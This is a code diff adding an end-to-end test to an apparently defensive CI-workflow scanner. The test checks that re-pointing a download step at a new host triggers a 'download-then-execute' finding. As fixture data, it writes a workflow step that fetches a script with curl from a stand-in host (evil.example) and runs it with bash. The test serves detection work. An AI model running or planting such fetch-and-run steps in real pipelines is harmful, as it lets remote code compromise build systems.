@@ -188,4 +188,22 @@ TEST_CASE("editing one line of a multi-line run makes an untouched line dangerou
   CHECK(repo.RiskgateJson({"check", "--base", second}, 0)["findings"].empty());
 }
 
+TEST_CASE("pointing an old unverified run at another download introduces the finding",
+          "[e2e][pins]") {
+  TempRepo repo;
+  const auto workflow = [](const std::string& host) {
+    return Workflow("permissions:\n  contents: read\n",
+                    "          curl -o t.sh https://" + host + "/t.sh\n          bash t.sh\n");
+  };
+  repo.Write(".github/workflows/ci.yml", workflow("x.example"));
+  const std::string base = repo.Commit("an old unverified download");
+  repo.Write(".github/workflows/ci.yml", "# ci\n" + workflow("x.example"));
+  repo.Commit("a comment above");
+  CHECK(repo.RiskgateJson({"check", "--base", base}, 0)["findings"].empty());
+  repo.Write(".github/workflows/ci.yml", "# ci\n" + workflow("evil.example"));
+  repo.Commit("another host");
+  auto doc = repo.RiskgateJson({"check", "--base", base}, 1);
+  CHECK(Rules(doc).contains("download-then-execute"));
+}
+
 }  // namespace riskgate::testing
